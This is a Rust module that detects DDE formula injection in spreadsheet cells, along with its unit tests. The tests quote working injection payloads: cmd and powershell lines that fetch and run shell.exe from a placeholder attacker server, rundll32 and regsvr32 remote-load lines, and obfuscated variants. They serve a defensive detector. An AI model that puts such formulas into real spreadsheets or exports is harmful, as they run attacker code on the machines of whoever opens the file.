//! The scanner for `application|topic!item` in formula text (`spec/excel.md` §0.3).
//!
//! Excel has no pipe operator: outside a string literal, a quoted name and an array constant, `|`
//! can only be the separator of a DDE reference. The scanner goes over the text once; what a
//! failed attempt looked at is looked at once more, never a third time.

use std::borrow::Cow;
use std::ops::Range;

use super::brackets::{Brackets, is_name};
use super::refs::plain_item;
use super::{is_blank, quoted, skip_blanks};
use crate::link::Confidence;

/// Excel cuts the service name here when it makes the name of the program (§0.1).
const SERVICE_CHARACTERS: usize = 8;
/// No program name of the lexicon is longer; a spaced-out name is rejoined up to here.
const PROGRAM_NAME: usize = 64;
/// What ends in one of these is a program or a script (§0.2).
const EXECUTABLE: &[&str] = &[
    ".exe", ".com", ".bat", ".cmd", ".scr", ".pif", ".cpl", ".hta", ".js", ".vbs",
];

/// One DDE reference.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Hit<'t> {
    /// Its bytes in the text that was scanned.
    pub(crate) span: Range<usize>,
    /// Quotation marks undone.
    pub(crate) service: Cow<'t, str>,
    pub(crate) topic: Cow<'t, str>,
    /// Quotation marks undone, `_xlbgnm.` stripped.
    pub(crate) item: Cow<'t, str>,
    /// High: the service is a known program, or the topic leads to one. Medium: quoted topic.
    /// Low: everything bare.
    pub(crate) confidence: Confidence,
}

/// Every DDE reference in `text`, which should be [normalised](super::normalise) first, in order.
/// `is_program` says whether a lower-case program name without extension is one that is known to
/// be abused.
///
/// A service that is no known program is tried again with the words before it joined on: `c m d`
/// (§0.4 step 5).
///
/// `lines` says that line breaks are blanks: in a formula they are, a text that would be one when
/// it is typed ends there.
pub(crate) fn scan<'t>(
    text: &'t str,
    lines: bool,
    is_program: &'t dyn Fn(&str) -> bool,
) -> Scanner<'t> {
    Scanner {
        brackets: Brackets::of(text),
        lines,
        text,
        bytes: text.as_bytes(),
        is_program,
        at: 0,
        last: None,
        joined: 0,
        arrays: true,
    }
}

/// See [`scan`].
pub(crate) struct Scanner<'t> {
    text: &'t str,
    bytes: &'t [u8],
    is_program: &'t dyn Fn(&str) -> bool,
    at: usize,
    /// The name that a `|` would make a service of.
    last: Option<Token<'t>>,
    /// The byte after the last separator other than a blank.
    joined: usize,
    /// Whether a closing brace may still follow.
    arrays: bool,
    brackets: Brackets,
    lines: bool,
}

struct Token<'t> {
    text: Cow<'t, str>,
    start: usize,
    quoted: bool,
}

impl<'t> Iterator for Scanner<'t> {
    type Item = Hit<'t>;

    fn next(&mut self) -> Option<Hit<'t>> {
        loop {
            let byte = self.bytes.get(self.at)?;
            let here = self.at;
            let after = here.saturating_add(1);
            match byte {
                b'\'' => match quoted(self.text, here, b'\'') {
                    Some((text, end)) => {
                        self.last = Some(Token {
                            text,
                            start: here,
                            quoted: true,
                        });
                        self.at = end;
                    }
                    None => self.separate(after),
                },
                b'"' => {
                    let end = quoted(self.text, here, b'"').map_or(after, |(_, end)| end);
                    self.separate(end);
                }
                b'{' if self.arrays => match self.array_end(after) {
                    Some(end) => self.separate(end),
                    None => {
                        self.arrays = false;
                        self.separate(after);
                    }
                },
                b'|' => {
                    let service = self.last.take();
                    let joined = self.joined;
                    self.separate(after);
                    if let Some(hit) = service.and_then(|s| self.reference(s, joined, here)) {
                        self.separate(hit.span.end);
                        return Some(hit);
                    }
                }
                byte if is_blank(*byte, self.lines) => self.at = after,
                byte if is_stop(*byte) => self.separate(after),
                _ => {
                    let end = self.name_end(here);
                    self.last = self.text.get(here..end).map(|text| Token {
                        text: Cow::Borrowed(text),
                        start: here,
                        quoted: false,
                    });
                    self.at = end;
                }
            }
        }
    }
}

impl<'t> Scanner<'t> {
    /// The end of the bare name at `start`; the brackets of a structured reference belong to it.
    fn name_end(&mut self, start: usize) -> usize {
        let end = bare_end(self.bytes, start);
        let name = self.bytes.get(start..end).unwrap_or_default();
        let Some(open) = name
            .windows(2)
            .position(|pair| matches!(pair, [before, b'['] if is_name(*before)))
        else {
            return end;
        };
        let open = start.saturating_add(open).saturating_add(1);
        self.brackets.end(self.bytes, open).unwrap_or(end)
    }

    /// A separator ends at `end`: what stands before it is no service.
    fn separate(&mut self, end: usize) {
        self.at = end;
        self.last = None;
        self.joined = end;
    }

    /// The byte after the brace that closes an array constant. Strings in it are skipped; names
    /// are not quoted there.
    fn array_end(&self, mut at: usize) -> Option<usize> {
        loop {
            let found = memchr::memchr2(b'"', b'}', self.bytes.get(at..)?)?;
            let here = at.saturating_add(found);
            let after = here.saturating_add(1);
            if self.bytes.get(here) == Some(&b'}') {
                return Some(after);
            }
            at = quoted(self.text, here, b'"').map_or(after, |(_, end)| end);
        }
    }

    /// The words from `start` to the `|` at `bar` with their white space deleted, if that makes
    /// them a known program.
    fn rejoined(&self, start: usize, bar: usize) -> Option<String> {
        let text: String = self
            .text
            .get(start..bar)?
            .chars()
            .filter(|c| !c.is_whitespace() && *c != '\'')
            .take(PROGRAM_NAME)
            .collect();
        starts_program(&text, "", self.is_program).then_some(text)
    }

    /// Tries `topic ! item` after the `|` at `bar`. The words before it start at `joined`.
    fn reference(&self, mut service: Token<'t>, joined: usize, bar: usize) -> Option<Hit<'t>> {
        let start = self.skip(bar.saturating_add(1));
        let quoted_topic = self.bytes.get(start) == Some(&b'\'');
        let (topic, end) = if quoted_topic {
            quoted(self.text, start, b'\'')?
        } else {
            let end = bare_topic_end(self.bytes, start);
            (Cow::Borrowed(self.text.get(start..end)?), end)
        };
        if topic.is_empty() && !quoted_topic {
            return None;
        }
        let mark = self.skip(end);
        if self.bytes.get(mark) != Some(&b'!') {
            return None;
        }
        let start = self.skip(mark.saturating_add(1));
        let quoted_item = self.bytes.get(start) == Some(&b'\'');
        let (item, end) = if quoted_item {
            quoted(self.text, start, b'\'')?
        } else {
            let end = bare_end(self.bytes, start);
            (Cow::Borrowed(self.text.get(start..end)?), end)
        };
        let number = |c: char| c.is_ascii_digit() || matches!(c, '.' | ',');
        if service.text.trim().is_empty()
            || service.text.chars().all(number)
            || (item.is_empty() && !quoted_item)
        {
            return None;
        }
        let confidence = if starts_program(&service.text, &topic, self.is_program) {
            Confidence::High
        } else if let Some(text) = self.rejoined(joined, bar) {
            service.text = Cow::Owned(text);
            service.start = joined;
            if quoted_topic {
                Confidence::Medium
            } else {
                Confidence::Low
            }
        } else if !service.quoted && opens_bracket(&service.text) {
            // The name of a table column: `Table1[[#This Row],[low|high!]]`.
            return None;
        } else if quoted_topic {
            Confidence::Medium
        } else if item.contains(char::is_alphanumeric) && self.stands_free(service.start, bar) {
            // Without a letter or digit it is what an expression of another language ends in.
            Confidence::Low
        } else {
            return None;
        };
        let item = match item {
            Cow::Borrowed(item) => Cow::Borrowed(plain_item(item)),
            Cow::Owned(item) => Cow::Owned(plain_item(&item).to_owned()),
        };
        Some(Hit {
            span: service.start..end,
            service: service.text,
            topic,
            item,
            confidence,
        })
    }

    fn skip(&self, at: usize) -> usize {
        skip_blanks(self.bytes, at, self.lines)
    }

    /// The adjacency rule of §0.3: an operator or nothing stands before the service, and no blank
    /// touches the `|`.
    fn stands_free(&self, start: usize, bar: usize) -> bool {
        let is_blank = |at: usize| matches!(self.bytes.get(at), Some(b' ' | b'\t'));
        if is_blank(bar.saturating_sub(1)) || is_blank(bar.saturating_add(1)) {
            return false;
        }
        let before = self.text.get(..start).unwrap_or_default();
        match before.trim_end_matches(' ').bytes().next_back() {
            None => true,
            Some(byte) => b"=+-*/^&(,;<>@".contains(&byte),
        }
    }
}

/// Whether the service is a known program or the topic leads to one.
pub(crate) fn starts_program(
    service: &str,
    topic: &str,
    is_program: &dyn Fn(&str) -> bool,
) -> bool {
    let name = program_name(service);
    let cut = name.char_indices().nth(SERVICE_CHARACTERS);
    let short = cut.and_then(|(cut, _)| name.get(..cut));
    is_program(&name) || short.is_some_and(is_program) || leads_to_program(topic)
}

/// The lower-case name of the program that a service names: no path, no quotation marks, no
/// `.exe`.
fn program_name(service: &str) -> String {
    let name = service.trim().trim_matches(['"', '\'']).trim();
    let name = name.rsplit(['\\', '/', ':']).next().unwrap_or(name);
    // Longer than any program, and only the end of it: not worth copying.
    let name: String = name.chars().take(PROGRAM_NAME).collect();
    let name = name.to_ascii_lowercase();
    name.strip_suffix(".exe").map(str::to_owned).unwrap_or(name)
}

/// Whether a topic is a path that leads away from the service to a program (§0.2): dot segments
/// at its very start, or a rooted path whose first word is an executable.
fn leads_to_program(topic: &str) -> bool {
    let topic = topic.trim();
    let rest = topic.trim_start_matches(['\\', '/']);
    if rest.starts_with("..\\")
        || rest.starts_with("../")
        || rest.starts_with(".\\")
        || rest.starts_with("./")
    {
        return true;
    }
    if rest.len() == topic.len() || !rest.contains(['\\', '/']) {
        return false;
    }
    names_program(rest.split(' ').next().unwrap_or(rest))
}

/// Whether a file name ends in an extension of programs and scripts.
pub(crate) fn names_program(name: &str) -> bool {
    let first = name.trim().as_bytes();
    EXECUTABLE.iter().any(|extension| {
        first
            .last_chunk::<4>()
            .is_some_and(|end| end.eq_ignore_ascii_case(extension.as_bytes()))
            || (extension.len() == 3
                && first
                    .last_chunk::<3>()
                    .is_some_and(|end| end.eq_ignore_ascii_case(extension.as_bytes())))
    })
}

fn opens_bracket(name: &str) -> bool {
    name.matches('[').count() > name.matches(']').count()
}

/// The characters that end a bare name (§0.3).
fn is_stop(byte: u8) -> bool {
    b"+-*^&=<>(),;{}\"'!|%@ \t\r\n".contains(&byte)
}

fn bare_end(bytes: &[u8], start: usize) -> usize {
    let rest = bytes.get(start..).unwrap_or_default();
    let length = rest.iter().position(|b| is_stop(*b)).unwrap_or(rest.len());
    start.saturating_add(length)
}

/// A bare topic takes in more than a bare name: `=cmd|/c!A1` has no blank to end it.
fn bare_topic_end(bytes: &[u8], start: usize) -> usize {
    let rest = bytes.get(start..).unwrap_or_default();
    let length = rest
        .iter()
        .position(|b| b"|!'\"\r\n \t(),;".contains(b))
        .unwrap_or(rest.len());
    start.saturating_add(length)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::formula::normalise::normalise;

    fn known(name: &str) -> bool {
        matches!(
            name,
            "cmd" | "rundll32" | "mshta" | "powershell" | "regsvr32"
        )
    }

    fn all(text: &str) -> Vec<(String, Confidence)> {
        scan(&normalise(text).text, true, &known)
            .map(|hit| {
                let triple = format!("{}|{}!{}", hit.service, hit.topic, hit.item);
                (triple, hit.confidence)
            })
            .collect()
    }

    fn triples(text: &str) -> Vec<String> {
        all(text).into_iter().map(|(triple, _)| triple).collect()
    }

    /// `spec/excel.md` §5.5.
    #[test]
    fn the_published_corpus_parses() {
        let two = ["cmd|/c calc.exe!A", "cmd|/c calc.exe!A"];
        let cases: &[(&str, &[&str])] = &[
            ("=cmd|'/C calc'!A0", &["cmd|/C calc!A0"]),
            ("+cmd|' /C calc'!A0", &["cmd| /C calc!A0"]),
            ("-cmd|'/C calc'!A0", &["cmd|/C calc!A0"]),
            ("@SUM(1+9)*cmd|' /C calc'!A0", &["cmd| /C calc!A0"]),
            ("=10+20+cmd|' /C calc'!A0", &["cmd| /C calc!A0"]),
            ("=2+5+cmd|' /C calc'!A0", &["cmd| /C calc!A0"]),
            ("=cmd|' /C notepad'!'A1'", &["cmd| /C notepad!A1"]),
            (
                "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
                &["cmd|/C powershell IEX(wget attacker_server/shell.exe)!A0"],
            ),
            (
                "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
                &["cmd|/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0!A1"],
            ),
            (
                "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
                &["cmd|/c calc.exe!A"],
            ),
            ("=cmd|'/c calc.exe'!A*cmd|'/c calc.exe'!A", &two),
            (
                "+thespanishinquisition(cmd|'/c calc.exe'!A",
                &["cmd|/c calc.exe!A"],
            ),
            ("=         cmd|'/c calc.exe'!A", &["cmd|/c calc.exe!A"]),
            (
                "=rundll32|'URL.dll,OpenURL calc.exe'!A",
                &["rundll32|URL.dll,OpenURL calc.exe!A"],
            ),
            (
                "=rundll321234567890abcdefghijklmnopqrstuvwxyz|'URL.dll,OpenURL calc.exe'!A",
                &["rundll321234567890abcdefghijklmnopqrstuvwxyz|URL.dll,OpenURL calc.exe!A"],
            ),
            (
                "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!A1",
                &["MSEXCEL|\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe!A1"],
            ),
            (
                "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://x scrobj.dll'!''",
                &[
                    "MSEXCEL|\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://x scrobj.dll!",
                ],
            ),
            (
                "=\0\0C\0\0m\0D\0|'/\0c calc.exe'\0!A",
                &["CmD|/c calc.exe!A"],
            ),
            (
                "=cmd|'/k \\..\\..\\..\\Windows\\System32\\calc.exe'!A0",
                &["cmd|/k \\..\\..\\..\\Windows\\System32\\calc.exe!A0"],
            ),
        ];
        for (text, expected) in cases {
            assert_eq!(triples(text), *expected, "{text}");
            for (_, confidence) in all(text) {
                assert_eq!(confidence, Confidence::High, "{text}");
            }
        }
    }

    /// `spec/excel.md` §5.6.
    #[test]
    fn false_positives_are_silent() {
        for text in [
            "-5",
            "+49 171 1234567",
            "-a|b",
            "@user on a|b!c",
            "- item one|two!three",
            "- foo | bar!",
            "=HYPERLINK(\"http://x/a|b!c\",\"q\")",
            "=A1&\"|\"&B1&\"!\"",
            "={1|2}",
            "--- | --- | !",
            "=VLOOKUP(a|b;c)",
            "=123|'x'!A",
            "=1.5,2|b!c",
            "=a|b!",
            "=\"cmd|'/c calc'!A0\"",
            "=Table1[[#This Row],[low|high!x]]",
            "='a|b!c'!A1",
            "={\"a\",\"}\"|b!c}",
            "",
        ] {
            assert_eq!(triples(text), [""; 0], "{text}");
        }
    }

    #[test]
    fn confidence_is_what_the_shape_says() {
        let cases = [
            ("=cmd|'/c'!A", Confidence::High),
            ("=CMD.EXE|'/c'!A", Confidence::High),
            (
                "=C:\\Windows\\System32\\mshta|'http://x/a.hta'!A",
                Confidence::High,
            ),
            ("=rundll321234567890|'x'!A", Confidence::High),
            ("=MSEXCEL|'\\..\\x'!A", Confidence::High),
            (
                "=MSEXCEL|'\\Windows\\System32\\cmd.exe /c calc'!A",
                Confidence::High,
            ),
            ("=server|'topic'!item", Confidence::Medium),
            ("=VTS|Display!TagName\\Variable", Confidence::Low),
            ("=MTX|DATA!AKBNK.SON", Confidence::Low),
            ("=c m d|'/c calc'!A", Confidence::Medium),
            ("=c m d | /c!A", Confidence::Low),
        ];
        for (text, expected) in cases {
            let found: Vec<_> = all(text).into_iter().map(|(_, c)| c).collect();
            assert_eq!(found, [expected], "{text}");
        }
    }

    #[test]
    fn parts_may_be_quoted_or_bare() {
        assert_eq!(
            triples("='my server'|'it''s'!'a b'"),
            ["my server|it's!a b"]
        );
        assert_eq!(triples("=cmd | '/c' ! A"), ["cmd|/c!A"]);
        assert_eq!(triples("=cmd|/c!A"), ["cmd|/c!A"]);
        assert_eq!(
            triples("=IF(1,cmd|'/c a'!A,cmd|'/c b'!B)"),
            ["cmd|/c a!A", "cmd|/c b!B"]
        );
        assert_eq!(triples("=c m d|'/c calc'!A"), ["cmd|/c calc!A"]);
    }

    #[test]
    fn line_breaks_are_blanks_in_formulas_only() {
        for text in ["cmd\n|'/c calc'!A0", "cmd|\r\n'/c calc'\n!\nA0"] {
            assert_eq!(triples(text), ["cmd|/c calc!A0"], "{text}");
            assert_eq!(scan(text, false, &known).count(), 0, "{text}");
        }
    }

    #[test]
    fn names_of_columns_open_no_string() {
        for text in [
            "Table1[a'b]+cmd|'/c calc'!A0",
            "Table1[a''b]+cmd|'/c calc'!A0",
            "Table1['[x]+cmd|'/c calc'!A0",
            "Table1[a\"b]+cmd|'/c calc'!A0",
            "Table1[{]+cmd|'/c calc'!A0+Table1[}]",
            "Table1[[#This Row],[a'#b]]+cmd|'/c calc'!A0",
            "'[Book.xlsx]It''s'!A1+cmd|'/c calc'!A0",
            "Table1[+cmd|'/c calc'!A0",
        ] {
            assert_eq!(triples(text), ["cmd|/c calc!A0"], "{text}");
        }
        for text in ["=Table1[low|'high'!x]", "=Table1[a'|b!c]"] {
            assert_eq!(triples(text), [""; 0], "{text}");
        }
    }

    /// SpreadsheetML 2003 and SYLK write cells by offset (§6.1).
    #[test]
    fn offsets_of_rows_and_columns_hide_nothing() {
        for text in [
            "R[1]C[-1]+cmd|'/c calc'!A0",
            "=SUM(R[-1]C:RC[-1])&cmd|'/c calc'!A0",
            "=R[-1]C*cmd|'/c calc'!A0",
            "=R[1]cmd+cmd|'/c calc'!A0",
        ] {
            assert_eq!(triples(text), ["cmd|/c calc!A0"], "{text}");
        }
        assert_eq!(triples("=cmd|'/c calc'!R1C1"), ["cmd|/c calc!R1C1"]);
        assert_eq!(triples("=R[1]C[-1]|x"), [""; 0]);
    }

    #[test]
    fn unclosed_marks_swallow_nothing() {
        for text in [
            "=don't+cmd|\"x\"+1",
            "='",
            "=cmd|'/c calc!A0",
            "=cmd|'/c calc'!'A0",
        ] {
            assert_eq!(triples(text), [""; 0], "{text}");
        }
        assert_eq!(triples("=\"+cmd|'/c calc'!A"), ["cmd|/c calc!A"]);
        assert_eq!(triples("={1+cmd|'/c calc'!A"), ["cmd|/c calc!A"]);
        assert_eq!(triples("={'}*cmd|'/c calc'!A0"), ["cmd|/c calc!A0"]);
    }

    #[test]
    fn spans_are_those_of_the_reference() {
        let text = "=1+cmd|'/c a'!A+2";
        let spans: Vec<_> = scan(text, true, &known)
            .map(|hit| text[hit.span].to_owned())
            .collect();
        assert_eq!(spans, ["cmd|'/c a'!A"]);
    }

    /// A pass that is not linear would not come back here.
    #[test]
    fn long_junk_is_linear() {
        for junk in [
            "|",
            "a|",
            "a|b",
            "a|b!",
            "'",
            "''",
            "a|'",
            "a|'b'!'",
            "\"",
            "{",
            "{\"",
            "(",
            " ",
            "a ",
            "|'x''",
            "!",
            "a|b!c ",
            "'x''",
            "| ",
            "a  |  b  ",
            "a[",
            "a['",
        ] {
            let text = junk.repeat(1_000_000 / junk.len()) + "!";
            let _ = scan(&text, true, &known).count();
        }
    }
}
